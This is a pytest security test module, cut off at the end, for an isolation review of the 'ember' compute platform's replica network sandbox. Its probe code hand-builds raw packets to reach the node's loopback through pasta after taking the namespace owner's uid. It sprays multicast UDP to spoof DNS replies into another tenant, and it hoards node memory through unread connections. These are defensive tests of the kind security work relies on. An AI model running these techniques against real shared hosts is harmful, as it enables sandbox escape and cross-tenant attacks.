"""A second reader's attacks on the replicas' networks of their own
(`networks/namespaces.py`, `processes/egress_rules.py`), by a tenant holding a
deploy token of its own workspace, against a real `ember server` whose replicas are
sandboxed. Each is the tenant's action from its replica (or its `ember replica exec`
command, or its snapshot phase) and an outcome seen on the node: a service of the
node's that got a connection or a datagram, another workspace's replica that got one,
a process of the tenant's network uid left running.

The node's services here are the test's own: a TCP and a UDP socket on the node's
wildcard address (every one of its addresses, loopback and IPv6 included), each
recording who reached it. Addresses of the node that no replica's namespace copies (a
veth pair's end, IPv4 and IPv6, and a link-local address standing in for instance
metadata) are added after the probing replica started, so its namespace's
`unreachable` routes do not hide them and the worker's packet filter is what answers.

What was found (each test says what it shows):

- the snapshot phase, which runs as uid 0 with CAP_SETUID where CRIU lacks
  CAP_SYS_RESOURCE (root in a container, as here), becomes its workspace's network uid:
  the owner of its network namespace's user namespace, so it holds CAP_NET_RAW and
  CAP_NET_ADMIN over its network. Frames it writes on its tap aimed at 127.0.0.1 are
  connected to by pasta on the node's loopback, which the worker's chain leaves open to
  the network uids: it talks to any service on the node's loopback (fails today);
- UDP to the IPv6 all-nodes group (ff02::1) leaves through pasta to the node's own
  sockets on the wildcard address (the chain rejects LOCAL and link-local destinations,
  not multicast ones): any node UDP service bound to `::` gets the tenant's datagrams
  (fails today);
- the same reaches another workspace's pasta, whose sockets for its replica's UDP flows
  are bound to the node's wildcard address at the replica's own port: pasta hands the
  datagram to the other replica as an answer (a spoofed DNS reply) (fails today);
- UDP to 224.0.0.1 does the same over IPv4 (the node's sockets on 0.0.0.0, another
  workspace's pasta's) (fails today, within the two tests above);
- pasta does not quit when the holder of its namespace is killed (this Debian passt
  quits with a namespace it was given by path, not by PID): every replica that ends
  leaves its pasta running as the network uid, and so does a worker that stops (fails
  today);
- data sent to a replica that it does not read waits in pasta's sockets on the node
  (some 8 MiB a connection), in no limit of the tenant's: a replica of memory_limit=64
  MiB makes the node hold several times that (fails today);
- the forwarded control-plane port is forwarded from the replica's IPv6 loopback too,
  to the node's ::1 at that port, where a service other than the control plane may
  listen (fails today: a listener of the test's there answers);
- not a way in, a promise of the docs: a connection to a node address the namespace
  does not copy (added after it started) is refused by the chain to pasta, but hangs
  in the replica instead of being refused at once (fails today).

Held: a replica's TCP at the node's loopback (IPv4, IPv6, IPv4-mapped, 0.0.0.0), its
addresses copied and not, its IPv6 link-local one, the gateways and link-local
(metadata) addresses; UDP to all those and to the broadcasts; its capabilities over its
network (none: no packet or raw socket, no address, link or route change, not its
network's owner); the holder and pasta out of its sight; `ember replica exec` in the
replica's own namespace.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from harness import Platform, running_platform, wait_for
from machine_needs import need
from test_network import Tenant, internet_stand_in

PROBE_APP = r'''
import errno
import fcntl
import os
import random
import socket
import struct
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor

import ember

NODE_TCP_PORT = @TCP_PORT@
NODE_UDP_PORT = @UDP_PORT@
WORD = "@WORD@"
NS_GET_USERNS, NS_GET_OWNER_UID = 0xB701, 0xB704
SIOCGIFHWADDR = 0x8927


def attempt(action):
    try:
        done = action()
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return "done" if done is None else done


def interface():
    return next(name for _, name in socket.if_nameindex() if name != "lo")


def scoped(host):
    return host.replace("%IF", "%" + interface())


def net_owner():
    """The uid owning the user namespace that owns this process's network namespace."""
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    try:
        users = fcntl.ioctl(fd, NS_GET_USERNS)
    finally:
        os.close(fd)
    try:
        return struct.unpack("I", fcntl.ioctl(users, NS_GET_OWNER_UID, b"\0" * 4))[0]
    finally:
        os.close(users)


def _connect(host, port, seconds):
    began = time.monotonic()
    try:
        found = socket.getaddrinfo(scoped(host), port, type=socket.SOCK_STREAM)
        family, _, _, _, address = found[0]
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(seconds)
            sock.connect(address)
            got = sock.recv(200).decode(errors="replace")
        outcome = "answered: " + got.strip()
    except OSError as exc:
        outcome = type(exc).__name__
    return {"outcome": outcome, "seconds": round(time.monotonic() - began, 2)}


@ember.endpoint(scaledown_window=300, snapshot=False)
def tcp(targets: list, port: int) -> dict:
    if not targets:
        return {}
    with ThreadPoolExecutor(len(targets)) as pool:
        return dict(zip(targets, pool.map(lambda host: _connect(host, port, 4), targets)))


def _send(host, port, word):
    family, _, _, _, address = socket.getaddrinfo(scoped(host), port, type=socket.SOCK_DGRAM)[0]
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(f"{word} {host}".encode(), address)


@ember.endpoint(scaledown_window=300, snapshot=False)
def udp(targets: list, port: int, word: str) -> dict:
    return {host: attempt(lambda: _send(host, port, word)) for host in targets}


@ember.endpoint(scaledown_window=300, snapshot=False)
def udp_spray(port: int, word: str, count: int = 20) -> dict:
    """Datagrams to the IPv6 all-nodes group and the IPv4 ones, at `port`."""
    sent = {}
    for host in ("ff02::1%IF", "224.0.0.1", "255.255.255.255"):
        for _ in range(count):
            sent[host] = attempt(lambda: _send(host, port, word))
            time.sleep(0.01)
    return sent


@ember.endpoint(scaledown_window=300, snapshot=False)
def udp_listen(port: int, seconds: float) -> dict:
    """A UDP socket at `port` (both families) that sent one datagram out over each (a
    DNS query's flow), and what came back to it within `seconds`."""
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    sock.bind(("::", port))
    sent = {
        dest: attempt(lambda: sock.sendto(b"query", (dest, 53)))
        for dest in ("2001:db8::53", "::ffff:198.51.100.53")
    }
    got = []
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        sock.settimeout(left)
        try:
            data, peer = sock.recvfrom(500)
        except socket.timeout:
            break
        got.append([data.decode(errors="replace"), str(peer[0])])
    sock.close()
    return {"sent": sent, "got": got}


@ember.endpoint(scaledown_window=300, snapshot=False)
def powers() -> dict:
    """What the replica may do to its own network, and what of the node it sees."""
    ip = "/usr/bin/ip"

    def run(*words):
        done = subprocess.run([ip, *words], capture_output=True, text=True, timeout=10)
        return "done" if done.returncode == 0 else (done.stderr.strip() or "failed")

    def raw(family, kind, proto=0):
        socket.socket(family, kind, proto).close()

    status = open("/proc/self/status").read()
    owner = attempt(net_owner)
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                uid = os.stat(f"/proc/{pid}").st_uid
                cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
            except OSError:
                continue
            seen.append([int(pid), uid, cmd[:200]])
    return {
        "uid": os.getuid(),
        "owner": owner,
        "netns": os.readlink("/proc/self/ns/net"),
        "cap_eff": next(l.split()[1] for l in status.splitlines() if l.startswith("CapEff")),
        "packet": attempt(lambda: raw(socket.AF_PACKET, socket.SOCK_RAW)),
        "raw_icmp": attempt(lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
        "raw_ip": attempt(lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)),
        "addr_add": run("addr", "add", "10.123.45.67/32", "dev", "lo"),
        "lo_down": run("link", "set", "lo", "down"),
        "route_del": run("route", "del", "default"),
        "route_localnet": attempt(
            lambda: open("/proc/sys/net/ipv4/conf/all/route_localnet", "w").write("1")
        ),
        "become_owner": attempt(lambda: os.setresuid(owner, owner, owner))
        if isinstance(owner, int)
        else "no owner",
        "processes": seen,
    }


@ember.endpoint(
    scaledown_window=300, snapshot=False, memory=@MEMORY_LIMIT@, memory_limit=@MEMORY_LIMIT@
)
def hoard(host: str, port: int, count: int, seconds: float) -> dict:
    """`count` connections to a server that sends without end, never read."""
    held = []
    for _ in range(count):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect((host, port))
        held.append(sock)
    time.sleep(seconds)
    for sock in held:
        sock.close()
    return {"held": len(held)}


# --- the snapshot phase, as its network's owner -------------------------------------


def _csum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ipv4(src, dst, proto, payload):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randrange(65536), 0x4000, 64,
        proto, 0, socket.inet_aton(src), socket.inet_aton(dst),
    )
    return head[:10] + struct.pack("!H", _csum(head)) + head[12:] + payload


def _l4(src, dst, proto, segment, at):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst)
    pseudo += struct.pack("!BBH", 0, proto, len(segment))
    total = _csum(pseudo + segment) or 0xFFFF
    return _ipv4(src, dst, proto, segment[:at] + struct.pack("!H", total) + segment[at + 2:])


def _udp(src, dst, sport, dport, data):
    return _l4(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6)


def _tcp(src, dst, sport, dport, seq, ack, flags, data=b""):
    segment = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0) + data
    return _l4(src, dst, 6, segment, 16)


def through_the_tap(tcp_port, udp_port, word):
    """Frames written on the namespace's tap, from an address not the namespace's (its
    kernel stays out of the exchange), to the node's loopback: pasta connects there."""
    name = interface()
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sock.bind((name, 0))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        mac = fcntl.ioctl(probe, SIOCGIFHWADDR, struct.pack("256s", name.encode()))[18:24]
        probe.connect(("198.51.100.1", 9))
        own = probe.getsockname()[0]
    head, last = own.rsplit(".", 1)
    src = f"{head}.{(int(last) + 100) % 250 + 2}"
    eth = b"\xff" * 6 + mac + b"\x08\x00"
    done = {"src": src}
    sport = 40000 + random.randrange(20000)
    sock.send(eth + _udp(src, "127.0.0.1", sport, udp_port, f"{word} tap".encode()))
    done["udp"] = "sent"
    isn = random.randrange(1 << 32)
    sock.send(eth + _tcp(src, "127.0.0.1", sport, tcp_port, isn, 0, 0x02))
    sock.settimeout(0.5)
    got, theirs = b"", None
    deadline = time.monotonic() + 6
    while time.monotonic() < deadline and b"\n" not in got:
        try:
            frame = sock.recv(65536)
        except socket.timeout:
            continue
        ip = frame[14:]
        if len(ip) < 40 or ip[9] != 6:
            continue
        at = (ip[0] & 15) * 4
        seg = ip[at:]
        if struct.unpack("!H", seg[2:4])[0] != sport:
            continue
        seq = struct.unpack("!I", seg[4:8])[0]
        flags = seg[13]
        data = ip[at + (seg[12] >> 4) * 4 : struct.unpack("!H", ip[2:4])[0]]
        if flags & 0x04:
            done["tcp_reset"] = True
            break
        if flags & 0x12 == 0x12 and theirs is None:
            theirs = seq + 1
            sock.send(eth + _tcp(src, "127.0.0.1", sport, tcp_port, isn + 1, theirs, 0x10))
            sock.send(eth + _tcp(src, "127.0.0.1", sport, tcp_port, isn + 1, theirs, 0x18, b"hi\n"))
        elif data:
            got += data
            theirs = seq + len(data)
            sock.send(eth + _tcp(src, "127.0.0.1", sport, tcp_port, isn + 4, theirs, 0x10))
    sock.close()
    done["tcp_got"] = got.decode(errors="replace")
    return done


def as_network_owner(action):
    """`action` run in a child that became the uid owning its network's user namespace
    (its workspace's network uid): its outcome, or why it could not."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        outcome = {}
        try:
            owner = net_owner()
            outcome["owner"] = owner
            os.setgroups([])
            os.setresgid(owner, owner, owner)
            os.setresuid(owner, owner, owner)
            outcome["became"] = os.getuid()
            outcome.update(action())
        except BaseException as exc:
            outcome["error"] = f"{type(exc).__name__}: {exc}"
        os.write(write, repr(outcome).encode())
        os._exit(0)
    os.close(write)
    chunks = []
    while chunk := os.read(read, 65536):
        chunks.append(chunk)
    os.close(read)
    os.waitpid(pid, 0)
    return eval(b"".join(chunks).decode() or "{}")


@ember.endpoint(name="snapper", scaledown_window=300)
class Snapper:
    @ember.enter(snap=True)
    def phase(self) -> None:
        self.uid = os.getuid()
        self.tried = as_network_owner(lambda: through_the_tap(NODE_TCP_PORT, NODE_UDP_PORT, WORD))

    @ember.method
    def report(self) -> dict:
        return {"uid": self.uid, "tried": self.tried}
'''

MEMORY_LIMIT_MIB = 64  # the hoarding endpoint's memory_limit=


@dataclass
class NodeService:
    """A TCP and a UDP socket on the node's wildcard address (IPv4 and IPv6): whoever
    reaches one of the node's addresses at their ports is recorded."""

    banner: str = field(default_factory=lambda: "node-secret-" + secrets.token_hex(6))
    accepted: list[str] = field(default_factory=list)
    datagrams: list[tuple[str, str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.tcp = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        self.tcp_port = self.tcp.getsockname()[1]
        # One socket a family (an IPv6 one on both would not get IPv4 multicast).
        self.udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        self.udp.bind(("::", 0))
        self.udp_port = self.udp.getsockname()[1]
        self.udp4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp4.bind(("0.0.0.0", self.udp_port))
        threading.Thread(target=self._serve_tcp, daemon=True).start()
        for sock in (self.udp, self.udp4):
            threading.Thread(target=self._serve_udp, args=(sock,), daemon=True).start()

    def _serve_tcp(self) -> None:
        while True:
            try:
                conn, peer = self.tcp.accept()
            except OSError:
                return
            self.accepted.append(str(peer[0]))
            with conn, contextlib.suppress(OSError):
                conn.sendall(f"{self.banner}\n".encode())
                conn.settimeout(2)
                conn.recv(100)

    def _serve_udp(self, sock: socket.socket) -> None:
        while True:
            try:
                data, peer = sock.recvfrom(2000)
            except OSError:
                return
            if peer is None:  # shut down
                return
            self.datagrams.append((data.decode(errors="replace"), str(peer[0])))

    def close(self) -> None:
        for sock in (self.tcp, self.udp, self.udp4):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)  # wakes its thread
            sock.close()


@dataclass
class ExtraAddresses:
    """Addresses of the node's that no replica namespace copies, on a veth pair of the
    test's: an IPv4 and an IPv6 one, a link-local one (metadata's range), and the veth's
    own IPv6 link-local one."""

    v4: str
    v6: str
    link_local: str
    v6_link_local: str


@contextlib.contextmanager
def extra_addresses() -> Iterator[ExtraAddresses]:
    tag = secrets.token_hex(3)
    here, there = f"vrn{tag}", f"vrp{tag}"
    net = 20 + secrets.randbelow(200)
    v4, v6, link_local = f"10.233.{net}.1", f"fd42:233:{net:x}::1", f"169.254.77.{net}"
    v6_link_local = f"fe80::77:{net:x}"
    try:
        for step in (
            ["ip", "link", "add", here, "type", "veth", "peer", "name", there],
            ["ip", "addr", "add", f"{v4}/30", "dev", here],
            ["ip", "addr", "add", f"{link_local}/32", "dev", here],
            ["ip", "-6", "addr", "add", f"{v6}/64", "dev", here, "nodad"],
            ["ip", "-6", "addr", "add", f"{v6_link_local}/64", "dev", here, "nodad"],
            ["ip", "link", "set", here, "up"],
            ["ip", "link", "set", there, "up"],
        ):
            subprocess.run(step, check=True, capture_output=True)
        yield ExtraAddresses(v4, v6, link_local, v6_link_local)
    finally:
        subprocess.run(["ip", "link", "del", here], capture_output=True)


def _node_addresses() -> list[str]:
    """The node's own global and link-local addresses on its default route's interface
    (those a replica's namespace copies, and the link-local one it does not), IPv6
    link-local ones scoped to the replica's interface."""
    shown = subprocess.run(["ip", "-o", "addr", "show"], capture_output=True, text=True)
    found = []
    for line in shown.stdout.splitlines():
        words = line.split()
        for family in ("inet", "inet6"):
            if family in words:
                address = words[words.index(family) + 1].split("/")[0]
                if address.startswith(("127.", "::1", "10.233.", "fd42:233:", "169.254.77.")):
                    continue
                if address.startswith("fe80::77:"):
                    continue
                found.append(address + "%IF" if address.startswith("fe80") else address)
    return found


def _gateways() -> list[str]:
    found = []
    for flag in ("-4", "-6"):
        shown = subprocess.run(
            ["ip", flag, "route", "show", "default"], capture_output=True, text=True
        )
        for line in shown.stdout.splitlines():
            words = line.split()
            if "via" in words:
                found.append(words[words.index("via") + 1])
    return found


def _broadcasts() -> list[str]:
    shown = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True)
    return [
        words[words.index("brd") + 1]
        for words in map(str.split, shown.stdout.splitlines())
        if "brd" in words
    ]


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    if os.geteuid() != 0:
        need("root", "replicas are sandboxed, each in a network of its own, by a root worker")
    with running_platform(tmp_path_factory.mktemp("review-networks")) as running:
        port = urlsplit(running.url).port
        yield running
    # Its replicas' pasta outlive it (test_pasta_quits_when_the_worker_stops): ended here.
    time.sleep(1)
    for pid, _ in _pastas(port or 0):
        with contextlib.suppress(OSError):
            os.kill(pid, 9)


@pytest.fixture(scope="module")
def node() -> Iterator[NodeService]:
    service = NodeService()
    yield service
    service.close()


@pytest.fixture(scope="module")
def mallory(
    platform: Platform, node: NodeService, tmp_path_factory: pytest.TempPathFactory
) -> Tenant:
    tenant = Tenant(platform, tmp_path_factory.mktemp("tenants"), "mallory")
    tenant.deploy("probe", _probe_source(node, "mallory"))
    # Its probing replicas start now: their namespaces' routes know none of the
    # addresses the tests add later.
    assert tenant.call("probe--tcp", {"targets": [], "port": 1}) == {}
    assert tenant.call("probe--udp", {"targets": [], "port": 1, "word": "-"}) == {}
    return tenant


def _probe_source(node: NodeService, word: str) -> str:
    return (
        PROBE_APP.replace("@TCP_PORT@", str(node.tcp_port))
        .replace("@UDP_PORT@", str(node.udp_port))
        .replace("@WORD@", f"{word}-{secrets.token_hex(4)}")
        .replace("@MEMORY_LIMIT@", str(MEMORY_LIMIT_MIB))
    )


def _call(tenant: Tenant, path: str, body: dict[str, Any] | None = None) -> Any:
    with tenant.platform.client(tenant.token, timeout=300) as client:
        answer = client.post(f"/{tenant.workspace}--{path}", json=body or {})
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_a_replica_reaches_no_node_address_over_tcp(mallory: Tenant, node: NodeService) -> None:
    """The node's wildcard TCP service, at every address a replica might name: its own
    loopback's (IPv4, IPv6, IPv4-mapped, 0.0.0.0), the node's addresses its namespace
    copies and those it does not (added after it started), the node's IPv6 link-local
    one, the gateways, a link-local address of the node's (metadata's range)."""
    with extra_addresses() as extra:
        targets = [
            "127.0.0.1",
            "127.0.0.2",
            "::1",
            "::ffff:127.0.0.1",
            "0.0.0.0",
            "localhost",
            *_node_addresses(),
            *_gateways(),
            extra.v4,
            extra.v6,
            f"::ffff:{extra.v4}",
            extra.link_local,
            f"{extra.v6_link_local}%IF",
            "169.254.169.254",
        ]
        node.accepted.clear()
        reached = mallory.call("probe--tcp", {"targets": targets, "port": node.tcp_port})
        time.sleep(0.5)
    answered = {h: r for h, r in reached.items() if node.banner in r["outcome"]}
    assert not answered and not node.accepted, (
        f"the node's TCP service answered the tenant's replica at {sorted(answered)} "
        f"(accepted from {node.accepted}): {reached}"
    )
    prompt = {"127.0.0.1", "::1", "::ffff:127.0.0.1"}
    prompt |= {a for a in _node_addresses() if not a.startswith("fe80")}
    slow = {h: r for h, r in reached.items() if h in prompt and r["seconds"] >= 4}
    assert not slow, f"the node's addresses hung the caller instead of refusing: {slow}"


def test_a_node_address_the_namespace_does_not_know_is_never_reached(
    mallory: Tenant, node: NodeService
) -> None:
    """An address the node gains after the replica's namespace was made (a veth's, IPv4
    and IPv6) is refused by the chain to pasta. First written against docs/security.md's
    "a refused connection, never a hang": pasta leaves the replica's SYN unanswered, so
    the replica's connect waits for its own timeout. The docs now promise the refusal
    at once for the addresses the node had when the namespace was made (routed nowhere
    inside it, both families), and for later ones only that they are never reached."""
    with extra_addresses() as extra:
        targets = [extra.v4, extra.v6]
        reached = mallory.call("probe--tcp", {"targets": targets, "port": node.tcp_port})
    assert not any(node.banner in r["outcome"] for r in reached.values()), reached


def test_a_replica_sends_no_datagram_to_a_node_address(mallory: Tenant, node: NodeService) -> None:
    """UDP to the node's wildcard UDP service, at the addresses above and at broadcast
    and multicast ones: the IPv4 broadcasts, 224.0.0.1, and the IPv6 all-nodes group on
    the replica's link (ff02::1), which the node's own sockets on `::` are members of."""
    word = "udp-" + secrets.token_hex(4)
    with extra_addresses() as extra:
        targets = [
            "127.0.0.1",
            "::1",
            "::ffff:127.0.0.1",
            *_node_addresses(),
            *_gateways(),
            extra.v4,
            extra.v6,
            extra.link_local,
            f"{extra.v6_link_local}%IF",
            "169.254.169.254",
            "255.255.255.255",
            *_broadcasts(),
            "224.0.0.1",
            "239.255.77.77",
            "ff02::1%IF",
            "ff02::1",
            "ff05::1",
        ]
        sent = mallory.call("probe--udp", {"targets": targets, "port": node.udp_port, "word": word})
        time.sleep(1.0)
    arrived = [(data, peer) for data, peer in node.datagrams if data.startswith(word)]
    assert not arrived, (
        "the node's UDP service on its wildcard address got the tenant's datagrams "
        f"(what each said, and from where): {arrived}; sent: {sent}"
    )


def test_a_replica_injects_no_datagram_into_another_workspaces_replica(
    platform: Platform, mallory: Tenant, node: NodeService, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Workspace `victim`'s replica sends a DNS query from a UDP socket of its own; its
    pasta binds a socket at the same port on the node to carry the answer. Mallory's
    replica sends to the all-nodes groups at that port (an attacker would try them all):
    nothing of it may reach the victim's replica."""
    victim = Tenant(platform, tmp_path_factory.mktemp("victim"), "victim")
    victim.deploy("engine", _probe_source(node, "victim"))
    port = 20_000 + secrets.randbelow(10_000)
    word = "spoofed-" + secrets.token_hex(4)
    # Both replicas up first.
    victim.call("engine--udp_listen", {"port": port + 1, "seconds": 0})
    mallory.call("probe--udp_spray", {"port": 9, "word": "-", "count": 0})
    with ThreadPoolExecutor(max_workers=1) as pool:
        listening = pool.submit(victim.call, "engine--udp_listen", {"port": port, "seconds": 8})
        time.sleep(2)  # the victim's query went out
        sprayed = mallory.call("probe--udp_spray", {"port": port, "word": word})
        heard = listening.result(timeout=300)
    spoofed = [got for got in heard["got"] if got[0].startswith(word)]
    assert not spoofed, (
        f"another workspace's replica read mallory's datagrams as answers to its own "
        f"query: {sorted({(data, peer) for data, peer in spoofed})}; "
        f"mallory sent {sprayed}, the victim {heard['sent']}"
    )


def test_the_snapshot_phase_reaches_no_node_loopback_service_through_its_tap(
    mallory: Tenant, node: NodeService
) -> None:
    """The snapshot phase (uid 0 with CAP_SETUID where CRIU lacks CAP_SYS_RESOURCE)
    forks a child that becomes the owner of its network's user namespace (its
    workspace's network uid), opens a packet socket on its interface and writes a UDP
    datagram and a TCP handshake to 127.0.0.1 onto the tap: pasta carries them to the
    node's loopback, where the worker's chain lets the network uids through."""
    node.accepted.clear()
    seen = _call(mallory, "probe--snapper/report")
    time.sleep(0.5)
    tried = seen["tried"]
    arrived = [(data, peer) for data, peer in node.datagrams if data.endswith(" tap")]
    got_secret = node.banner in tried.get("tcp_got", "")
    assert not got_secret and not arrived and not node.accepted, (
        f"the snapshot phase (uid {seen['uid']}), as its network uid "
        f"{tried.get('became')}, reached the node's loopback through pasta: the node's "
        f"TCP service accepted from {node.accepted} and sent it "
        f"{tried.get('tcp_got')!r}; its UDP service got {arrived}; the phase: {tried}"
    )


def test_a_replica_holds_no_power_over_its_network_and_sees_no_holder(
    mallory: Tenant,
) -> None:
    seen = mallory.call("probe--powers")
    assert isinstance(seen["owner"], int) and seen["owner"] != seen["uid"], seen["owner"]
    assert int(seen["cap_eff"], 16) == 0, seen["cap_eff"]
    for what in ("packet", "raw_icmp", "raw_ip", "addr_add", "lo_down", "route_del"):
        assert seen[what] != "done", f"the replica could {what} in its network: {seen[what]}"
    assert seen["route_localnet"] != "done", seen["route_localnet"]
    assert seen["become_owner"] != "done", "the replica became its network's owner"
    strangers = [p for p in seen["processes"] if p[1] != seen["uid"]]
    assert not strangers, f"the replica sees processes not its own: {strangers}"
    assert not any("pasta" in p[2] or "passt" in p[2] for p in seen["processes"])


def test_replica_exec_runs_in_the_replicas_own_network(platform: Platform, mallory: Tenant) -> None:
    seen = mallory.call("probe--powers")
    listed = platform.ember_as(mallory.token, "replica", "ls", "probe", "--json")
    rows = json.loads(listed.stdout)
    replica = next((row["id"] for row in rows if row["label"].endswith("--powers")), None)
    assert replica is not None, listed.stdout + listed.stderr
    script = (
        "import os, socket\n"
        "print(os.readlink('/proc/self/ns/net'))\n"
        "try:\n"
        "    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(); print('packet')\n"
        "except OSError as exc:\n"
        "    print(type(exc).__name__)\n"
    )
    ran = platform.ember_as(
        mallory.token, "replica", "exec", replica, "--", "python3", "-c", script
    )
    assert ran.returncode == 0, ran.stdout + ran.stderr
    lines = ran.stdout.split()
    assert lines[0] == seen["netns"], f"exec's network {lines[0]}, the replica's {seen['netns']}"
    assert lines[0] != os.readlink("/proc/self/ns/net"), "exec runs in the node's network"
    assert "packet" not in lines, "exec's command opened a packet socket"


def test_the_forwarded_control_plane_port_reaches_the_control_plane_alone(
    platform: Platform, mallory: Tenant
) -> None:
    """The control plane's port is forwarded from the replica's loopback to the node's:
    at 127.0.0.1 it is the control plane (TLS); at ::1, the same port on the node's
    IPv6 loopback (a listener of the test's there) must not be reached."""
    port = urlsplit(platform.url).port
    assert port is not None, platform.url
    if not socket.has_ipv6 or not Path("/proc/net/if_inet6").exists():
        need("node", "the node has no IPv6 loopback for the test's listener")
    # The control plane listens on 127.0.0.1 alone: the port is free on ::1, or the
    # node runs something there, which this test must not mistake for a pass.
    other = socket.create_server(("::1", port), family=socket.AF_INET6)
    banner = "node-v6-" + secrets.token_hex(4)

    def serve() -> None:
        while True:
            try:
                conn, _ = other.accept()
            except OSError:
                return
            with conn:
                conn.sendall(f"{banner}\n".encode())

    threading.Thread(target=serve, daemon=True).start()
    try:
        reached = mallory.call("probe--tcp", {"targets": ["::1", "127.0.0.2"], "port": port})
    finally:
        with contextlib.suppress(OSError):
            other.shutdown(socket.SHUT_RDWR)
        other.close()
    assert not any(banner in r["outcome"] for r in reached.values()), (
        f"the forwarded control-plane port reached another node service: {reached}"
    )


def blaster() -> internet_stand_in:
    """test_network's stand-in for the internet, whose server sends to every connection
    without end: (address, port) while entered."""
    return internet_stand_in(
        "chunk = b'x' * (1 << 20)\n"
        "    try:\n"
        "        while True: c.sendall(chunk)\n"
        "    except OSError: c.close()"
    )


def _queued_from(address: str, port: int) -> int:
    """Bytes the node's own sockets hold received from `address`:`port`, not yet read
    (pasta's, for a replica's connections there)."""
    want = f"{socket.inet_aton(address)[::-1].hex().upper()}:{port:04X}"
    total = 0
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        words = line.split()
        if words[2] == want:
            total += int(words[4].split(":")[1], 16)
    return total


def test_a_replicas_connections_hold_no_node_memory_beyond_its_limit(mallory: Tenant) -> None:
    """The replica (memory_limit=64 MiB) opens connections to a server that sends
    without end and reads none of it. Its own sockets' buffers count against its limit;
    pasta's, on the node, where the data waits for the replica's window, count in no
    limit of the tenant's: the node holds what the tenant asked for beyond its limit."""
    with blaster() as (address, port), ThreadPoolExecutor(max_workers=1) as pool:
        hoarding = pool.submit(
            mallory.call,
            "probe--hoard",
            {"host": address, "port": port, "count": 24, "seconds": 8},
        )
        most = 0
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not hoarding.done():
            most = max(most, _queued_from(address, port))
            time.sleep(0.25)
        held = hoarding.result(timeout=300)
    limit = MEMORY_LIMIT_MIB << 20
    assert most <= limit, (
        f"the node held {most / (1 << 20):.0f} MiB of data for the tenant's "
        f"{held['held']} connections in pasta's sockets, beyond its replica's "
        f"memory_limit of {MEMORY_LIMIT_MIB} MiB"
    )


# --- pasta's life ------------------------------------------------------------------


def _pastas(forwarded_port: int) -> list[tuple[int, int]]:
    """(pasta's pid, its target holder's pid) of every pasta forwarding `forwarded_port`
    (a platform's control-plane port: that platform's replicas')."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            words = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
        except OSError:
            continue
        words = [w for w in words if w]
        if not words or not words[0].endswith("pasta") or "--tcp-ns" not in words:
            continue
        ports = words[words.index("--tcp-ns") + 1].split(",")
        if str(forwarded_port) in ports and words[-1].isdigit():
            found.append((int(pid), int(words[-1])))
    return found


def _orphaned(forwarded_port: int) -> list[int]:
    """Those pastas whose namespace's holder is gone."""
    return [pasta for pasta, holder in _pastas(forwarded_port) if not _alive(holder)]


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


def test_a_replicas_pasta_quits_when_the_replica_ends(platform: Platform, mallory: Tenant) -> None:
    """The tenant stops its replica (a crash, a scale-down alike): its holder is killed;
    its pasta must go too, else every replica start leaves a process of the tenant's
    network uid behind (some 200 descriptors and its sockets each)."""
    port = urlsplit(platform.url).port
    assert port is not None
    mallory.call("probe--udp", {"targets": [], "port": 1, "word": "-"})
    listed = platform.ember_as(mallory.token, "replica", "ls", "probe", "--json")
    replica = next(row["id"] for row in json.loads(listed.stdout) if row["label"].endswith("--udp"))
    before = set(_orphaned(port))
    stopped = platform.ember_as(mallory.token, "replica", "stop", replica)
    assert stopped.returncode == 0, stopped.stdout + stopped.stderr

    def gone() -> bool:
        rows = json.loads(
